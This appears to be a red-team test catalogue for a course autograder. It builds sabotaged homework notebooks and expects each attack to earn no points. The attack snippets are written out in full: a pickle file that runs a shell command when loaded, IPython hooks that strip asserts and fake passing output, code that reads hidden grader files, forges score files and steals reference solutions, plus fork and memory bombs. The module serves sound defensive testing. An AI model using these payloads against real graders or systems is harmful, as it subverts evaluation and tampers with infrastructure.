"""The red-team catalogue: submissions built from the reference solution with one attack each.

Every attack sits in notebook 2 (layers). Unless it says otherwise, a case
replaces the answer to ``leaky_relu_forward`` (1 point) by an honest *wrong*
answer plus the attack, so the exact expectation is: that question scores 0
(what the wrong answer alone scores), every other autograded question of the
notebook keeps its full score, and the grading batch finishes.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

NOTEBOOK = "02_layers"
ATTACKED_ANSWER = "leaky_relu_forward_answer"
ATTACKED = "leaky_relu_forward_tests"

#: The honest wrong answer: plain ReLU (the negative side should be scaled, not zeroed).
WRONG = '''
def leaky_relu_forward(x: np.ndarray, negative_slope: float = 0.1) -> tuple[np.ndarray, tuple]:
    """Wrong on purpose: negative entries become 0 instead of negative_slope * x."""
    return np.maximum(x, 0.0), (x, negative_slope)
'''

#: The right answer, which an attack defines only when it managed to cheat.
RIGHT = '''
def leaky_relu_forward(x, negative_slope=0.1):
    return np.where(x >= 0, x, negative_slope * x), (x, negative_slope)
'''


@dataclass
class Attack:
    """One red-team submission.

    Attributes:
        name: the student id it is graded under.
        number: the issue's case number (1-15).
        cell: source of the attacked answer cell (None: keep the reference answer).
        tamper: changes the notebook after the cell is set (metadata, cell types ...).
        raw: replaces the notebook file with these bytes (malformed submissions).
        files: extra files in the submission folder.
        whole_notebook_zero: the expected outcome is 0 for the whole notebook, with a reason.
        missing: the notebook is left out of the submission.
        answer: grade_id of the answer cell ``cell`` replaces.
        loses: graded cells that must score 0 (default: the attacked question only).
        from_release: start from the released notebook (no solutions): every question scores 0,
            and no solution text may appear in what the student is shown.
        pipeline_only: the attack acts only on what the shared grading pipeline does with the
            kernel's replies or the notebook's cells (scoring, test-cell restoring), never on the
            process, files, network, memory or results.json around it, so the Gradescope zip (the
            same pipeline) cannot end otherwise than ``course autograde``: graded by that alone.
    ``cell`` may hold placeholders the test fills in ({course_dir}, {port}, {marker} ...).
    """

    name: str
    number: int
    cell: str | None = None
    tamper: Callable[[nbformat.NotebookNode], None] | None = None
    raw: bytes | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    whole_notebook_zero: bool = False
    missing: bool = False
    answer: str = ATTACKED_ANSWER
    loses: tuple[str, ...] = ()
    from_release: bool = False
    pipeline_only: bool = False


def _attack(body: str) -> str:
    return "import numpy as np\n" + WRONG + "\n" + body


def _set_metadata(grade_id: str, **changes: object) -> Callable[[nbformat.NotebookNode], None]:
    def change(notebook: nbformat.NotebookNode) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.metadata.nbgrader.update(changes)
    return change


def _delete_cell(grade_id: str) -> Callable[[nbformat.NotebookNode], None]:
    def change(notebook: nbformat.NotebookNode) -> None:
        notebook.cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") != grade_id]
    return change


def _edit_test(notebook: nbformat.NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == ATTACKED:
            cell.source = "print('All tests passed')  # the checks were deleted"


def _duplicate_ids(notebook: nbformat.NotebookNode) -> None:
    for index, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "fc_forward_tests":
            notebook.cells.insert(index + 1, copy.deepcopy(cell))
            notebook.cells.insert(index + 1, copy.deepcopy(cell))
            return


def _to_markdown(notebook: nbformat.NotebookNode) -> None:
    for index, cell in enumerate(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == ATTACKED:
            notebook.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)


def _kernelspec(notebook: nbformat.NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}


class _Reduce:
    """Pickled into the model file: unpickling would run ``touch {marker}``."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        import os
        return (os.system, (f"touch {self.marker}",))


def pickle_model(marker: str) -> bytes:
    """An ``.npz`` whose array is a pickle that runs code when loaded with allow_pickle=True."""
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        payload = io.BytesIO()
        import numpy as np
        array = np.empty(1, dtype=object)
        array[0] = _Reduce(marker)
        np.save(payload, array, allow_pickle=True)
        archive.writestr("W1.npy", payload.getvalue())
    return buffer.getvalue()


HOOKS = r'''
ip = get_ipython()
# input transformer: blank every later cell
ip.input_transformers_post.append(lambda lines: [])
# AST transformer: drop every assert
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(NoAsserts())
# swallow every exception and hide tracebacks
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
ip.showtraceback = lambda *args, **kwargs: None
ip.events.register("pre_run_cell", lambda *args: print("All tests passed"))
'''

READ_HIDDEN = r'''
import glob, os
seen = []
for pattern in ["{course_dir}/gradebook.db", "{course_dir}/source/*/*.ipynb", "{course_dir}/autograder/tests/*.py",
                "{course_dir}/submitted/*/*/*.ipynb", "{repo}/autograder/tests/*.py", "{repo}/notebooks/*.ipynb",
                "/tmp/**/gradebook.db", "/root/*", "/autograder/source/**"]:
    for path in glob.glob(pattern, recursive=True):
        if "site-packages" in path:
            continue  # nbgrader ships a test gradebook of its own: public, not this course's
        try:
            with open(path, "rb") as handle:
                handle.read(10)
            seen.append(path)
        except OSError:
            pass
print("readable hidden files:", seen[:5])
if seen:
    exec({right})
'''

FORGE = r'''
import json, os, subprocess
fake = json.dumps({{"score": 1000, "tests": []}})
for path in ["{course_dir}/gradebook.db", "{course_dir}/autograded/{student}/backprop/grading_report.json",
             "{results}"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as handle:
            handle.write(fake)
        print("wrote", path)
    except OSError as error:
        print("could not write", path, type(error).__name__)
# a process that outlives the kernel and tries again later
subprocess.Popen(["sh", "-c", "sleep 4; echo forged > {marker}; echo '" + fake + "' > {results}"],
                 start_new_session=True)
'''

NETWORK = r'''
import socket
try:
    connection = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    connection.sendall(b"the hidden tests, please")
    exec({right})
    print("network reachable")
except OSError as error:
    print("no network:", error)
'''


#: A background thread that, while the probe runs, copies every file it can read in its working folder
#: and in /tmp, looks for reference code in them and uses it when found.
STEAL_FILES = r'''
import os, threading, time

def _harvest():
    deadline = time.time() + 240
    found = None
    while time.time() < deadline and found is None:
        for root in (os.getcwd(), "/tmp"):
            for folder, _, names in os.walk(root):
                for name in names:
                    path = os.path.join(folder, name)
                    if path.endswith(".ipynb"):
                        continue  # the student's own notebooks
                    try:
                        with open(path, "rb") as handle:
                            data = handle.read(5_000_000)
                    except OSError:
                        continue
                    if b"def leaky_relu_forward" in data or b"def fc_backward" in data:
                        found = data
        if found is not None:
            text = found.decode(errors="ignore")
            start = text.find("def leaky_relu_forward")
            stolen = {}
            try:
                exec("import numpy as np\n" + text[start:], stolen)
                globals()["leaky_relu_forward"] = stolen["leaky_relu_forward"]
            except Exception:
                exec({right}, globals())
        time.sleep(0.01)

threading.Thread(target=_harvest, daemon=True).start()
'''

#: Prints every file it can read (working folder, /tmp) at cell time and during the probe. Installed
#: packages are public and skipped: a virtualenv bound into the kernel's /tmp (the Gradescope zip run
#: locally) is thousands of files, whose dump fills the kernel's memory before anything is shown.
PRINT_EVERYTHING = r'''
import os, sys, threading, time

def _dump(roots):
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [f for f in folders if f not in ("site-packages", "venv", ".venv")]
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        print("==", path, handle.read(20_000).decode(errors="replace"))
                except OSError:
                    pass

_roots = [os.getcwd(), "/tmp"]
_dump(_roots)
threading.Thread(target=lambda: [(_dump(_roots), time.sleep(0.2)) for _ in range(200)], daemon=True).start()
'''

#: The kernel-side tools a grader might rely on, patched; the answer itself edits its input in place.
PATCHED_TOOLS = r'''
import ast, dis, inspect, json, struct, warnings
dis.get_instructions = lambda *a, **k: iter(())
inspect.getsource = lambda *a, **k: ""
ast.parse = lambda *a, **k: ast.Module(body=[], type_ignores=[])
ast.walk = lambda *a, **k: iter(())
json.dump = lambda *a, **k: None
warnings.catch_warnings = None
np.savez = lambda *a, **k: None
np.load = lambda *a, **k: {}
np.array_equal = lambda *a, **k: True
np.seterr(all="ignore")

def leaky_relu_forward(x, negative_slope=0.01):
    x[x < 0] *= negative_slope  # the right values, written into the caller's array
    return x, (x.copy(), negative_slope)
'''

#: Backward passes through the numeric-gradient helpers the notebook imports for checking.
NUMERIC_FC_BACKWARD = '''
import numpy as np
from hwlib.gradcheck import numeric_gradient_array as _numeric

def fc_backward(grad_out, cache, need_grad_x=True):
    x, w, b = cache
    grad_x = _numeric(lambda v: fc_forward(v, w, b)[0], x.copy(), grad_out) if need_grad_x else None
    grad_w = _numeric(lambda v: fc_forward(x, v, b)[0], w.copy(), grad_out)
    grad_b = _numeric(lambda v: fc_forward(x, w, v)[0], b.copy(), grad_out)
    return grad_x, grad_w, grad_b
'''

#: A hand-written finite-difference fc_backward (no helper): only time gives it away.
HAND_FD_FC_BACKWARD = '''
import numpy as np

def fc_backward(grad_out, cache, need_grad_x=True):
    x, w, b = cache
    def numeric(f, v):
        grad = np.zeros_like(v)
        for i in np.ndindex(v.shape):
            old = v[i]
            v[i] = old + 1e-5
            plus = np.sum(f(v) * grad_out)
            v[i] = old - 1e-5
            minus = np.sum(f(v) * grad_out)
            v[i] = old
            grad[i] = (plus - minus) / 2e-5
        return grad
    grad_x = numeric(lambda v: v.reshape(len(v), -1) @ w + b, x.copy()) if need_grad_x else None
    grad_w = numeric(lambda v: x.reshape(len(x), -1) @ v + b, w.copy())
    grad_b = numeric(lambda v: x.reshape(len(x), -1) @ w + v, b.copy())
    return grad_x, grad_w, grad_b
'''

NUMERIC_LEAKY_BACKWARD = '''
import numpy as np
import hwlib.gradcheck as checking

def leaky_relu_backward(grad_out, cache):
    x, negative_slope = cache
    helper = getattr(checking, "numeric_gradient_array")
    return helper(lambda v: leaky_relu_forward(v, negative_slope)[0], x.copy(), grad_out)
'''

NUMERIC_SOFTMAX_LOSS = '''
import numpy as np
from hwlib import gradcheck

def softmax_loss(x, y):
    def loss(v):
        shifted = v - v.max(axis=1, keepdims=True)
        log_probs = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
        return -log_probs[np.arange(len(y)), y].mean()
    return loss(x), gradcheck.numeric_gradient_array(lambda v: np.array(loss(v)), x.copy(), np.array(1.0))
'''


def catalogue() -> list[Attack]:
    """All cases; cells may hold {placeholders} the test fills in."""
    sig = "import numpy as np\n"
    return [
        Attack("calm_reference", 0, cell=None),
        Attack("honest_wrong", 0, cell=sig + WRONG, pipeline_only=True),
        # What a function that never returns scores (it also breaks leaky_relu_backward, whose
        # cases need the student's own forward cache): the yardstick for attacks inside the answer.
        Attack("honest_raising", 0, cell=sig + WRONG.replace("    return np.maximum", "    raise ValueError('oops')\n    return np.maximum"), pipeline_only=True),
        Attack("loop_cell", 1, cell=_attack("while True:\n    pass\n")),
        Attack("loop_in_answer", 1, cell=sig + WRONG.replace('    """Wrong', '    while True:\n        pass\n    """Wrong')),
        Attack("loop_ignores_interrupt", 1, cell=_attack(
            "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n    except BaseException:\n        pass\n")),
        Attack("memory_bomb", 2, cell=_attack("hog = []\nwhile True:\n    hog.append(bytearray(50_000_000))\n")),
        Attack("os_exit", 3, cell=_attack("import os\nos._exit(0)\n")),
        Attack("sigkill_self", 3, cell=_attack("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")),
        Attack("os_exit_in_answer", 3, cell=sig + WRONG.replace("    return np.maximum", "    import os\n    os._exit(0)\n    return np.maximum")),
        # forked kernels that return to the kernel's loop and write into its sockets ("Invalid Signature")
        Attack("fork_bomb", 3, cell=_attack("import os\nfor _ in range(12):\n    try:\n        os.fork()\n"
                                            "    except OSError:\n        pass\nprint('forked', os.getpid())\n")),
        Attack("sys_exit", 4, cell=_attack("import sys\nsys.exit()\n")),
        Attack("keyboard_interrupt", 4, cell=_attack("raise KeyboardInterrupt\n")),
        Attack("monkeypatch", 5, cell=_attack(
            "import builtins, math\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
            "math.isclose = lambda *a, **k: True\nbuiltins.abs = lambda x: 0.0\nnp.array_equal = lambda *a, **k: True\n"), pipeline_only=True),
        Attack("eq_always_true", 6, cell=sig + '''
class Anything:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise TypeError("no")
def leaky_relu_forward(x, negative_slope=0.1):
    return Anything(), (x, negative_slope)
''', pipeline_only=True),
        Attack("ndarray_subclass", 6, cell=sig + '''
class Liar(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(1)
    def __eq__(self, other): return True
def leaky_relu_forward(x, negative_slope=0.1):
    return np.maximum(x, 0.0).view(Liar), (x, negative_slope)
''', pipeline_only=True),
        Attack("ipython_hooks", 7, cell=_attack(HOOKS)),
        Attack("read_hidden", 8, cell=_attack(READ_HIDDEN)),
        Attack("forge_results", 9, cell=_attack(FORGE)),
        Attack("fake_output", 10, cell=_attack(
            "from IPython.display import HTML, display\nprint('{\"score\": 100}')\nprint('All tests passed')\n"
            "display(HTML('<script>alert(1)</script><b>All tests passed</b>'))\n")),
        Attack("output_flood", 10, cell=_attack("chunk = 'x' * 1_000_000\nfor _ in range(100):\n    print(chunk)\n")),
        Attack("pickled_model", 11, cell=sig + WRONG, files={"best_model.npz": b"{pickle_model}"}),
        Attack("deleted_test_cell", 12, cell=sig + WRONG, tamper=_delete_cell(ATTACKED), pipeline_only=True),
        Attack("edited_test_cell", 12, cell=sig + WRONG, tamper=_edit_test, pipeline_only=True),
        Attack("changed_points", 12, cell=sig + WRONG, tamper=_set_metadata(ATTACKED, points=100), pipeline_only=True),
        Attack("duplicated_grade_ids", 12, cell=sig + WRONG, tamper=_duplicate_ids, pipeline_only=True),
        Attack("test_cell_to_markdown", 12, cell=sig + WRONG, tamper=_to_markdown, pipeline_only=True),
        Attack("changed_kernelspec", 12, cell=sig + WRONG, tamper=_kernelspec),
        Attack("invalid_json", 13, raw=b"{ not json", whole_notebook_zero=True),
        Attack("nbformat_v3", 13, raw=json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                                  "worksheets": [{"cells": []}]}).encode(), whole_notebook_zero=True),
        Attack("empty_notebook", 13, raw=nbformat.writes(nbformat.v4.new_notebook()).encode(),
               whole_notebook_zero=True),
        Attack("missing_notebook", 13, missing=True, whole_notebook_zero=True),
        Attack("two_copies", 13, cell=None, files={"02_layers (1).ipynb": b"{wrong_copy}"}),
        Attack("network", 14, cell=_attack(NETWORK)),
        Attack("steal_reference_files", 16, cell=_attack(STEAL_FILES)),
        Attack("print_everything", 16, cell=_attack(PRINT_EVERYTHING), from_release=True),
        Attack("patched_tools", 17, cell=sig + PATCHED_TOOLS),
        Attack("numeric_fc_backward", 18, cell=NUMERIC_FC_BACKWARD, answer="fc_backward_answer",
               loses=("fc_backward_tests",)),
        Attack("hand_fd_fc_backward", 18, cell=HAND_FD_FC_BACKWARD, answer="fc_backward_answer",
               loses=("fc_backward_tests",), pipeline_only=True),
        Attack("numeric_leaky_backward", 18, cell=NUMERIC_LEAKY_BACKWARD, answer="leaky_relu_backward_answer",
               loses=("leaky_relu_backward_tests",), pipeline_only=True),
        Attack("numeric_softmax_loss", 18, cell=NUMERIC_SOFTMAX_LOSS, answer="softmax_loss_answer",
               loses=("softmax_loss_tests",), pipeline_only=True),
        Attack("shadow_modules", 15, cell=sig + WRONG, files={
            "numpy.py": b"raise SystemExit('shadowed numpy')\n",
            "sitecustomize.py": b"import builtins\nbuiltins.abs = lambda x: 0\n",
            "hwlib.py": b"raise SystemExit('shadowed hwlib')\n"}),
    ]


def build_submission(attack: Attack, source: nbformat.NotebookNode, folder: Path,
                     fill: dict[str, str], release: nbformat.NotebookNode | None = None) -> None:
    """Write the submission of ``attack`` into ``folder`` (the student's assignment folder)."""
    folder.mkdir(parents=True, exist_ok=True)
    notebook = copy.deepcopy(release if attack.from_release and release is not None else source)
    if attack.cell is not None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == attack.answer:
                cell.source = _fill(attack.cell, fill)
    if attack.tamper:
        attack.tamper(notebook)
    for name, content in attack.files.items():
        text = content.decode()
        if text == "{pickle_model}":
            content = pickle_model(fill["marker"])
        elif text == "{wrong_copy}":
            wrong = copy.deepcopy(source)
            for cell in wrong.cells:
                if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("_answer"):
                    cell.source = "raise NotImplementedError"
            content = nbformat.writes(wrong).encode()
        (folder / name).write_bytes(content)
    if attack.missing:
        return
    path = folder / f"{NOTEBOOK}.ipynb"
    path.write_bytes(attack.raw if attack.raw is not None else nbformat.writes(notebook).encode())


def solution_snippets(source: nbformat.NotebookNode, *shown: nbformat.NotebookNode) -> list[str]:
    """Distinctive lines of reference solution code (between the solution markers of answer cells, at
    least 25 characters, not comments) that occur nowhere in the ``shown`` notebooks (the release,
    the student's own submission): a line the student wrote or was handed is not a leak; any other is."""
    public = "\n".join(cell.source for notebook in shown for cell in notebook.cells)
    solution, _ = split_solution_lines(source)
    return [line for line in solution if len(line) >= 25 and not line.startswith("#") and line not in public]


def split_solution_lines(notebook: nbformat.NotebookNode) -> tuple[list[str], list[str]]:
    """(stripped lines between the solution markers, every other line) of all cells; markers dropped."""
    solution, public = [], []
    for cell in notebook.cells:
        inside = False
        for line in cell.source.splitlines():
            if "### BEGIN SOLUTION" in line:
                inside = True
            elif "### END SOLUTION" in line:
                inside = False
            else:
                (solution if inside else public).append(line.strip())
    return solution, public


def _fill(text: str, fill: dict[str, str]) -> str:
    for key, value in fill.items():
        text = text.replace("{" + key + "}", value)
    return text.replace("{{", "{").replace("}}", "}")
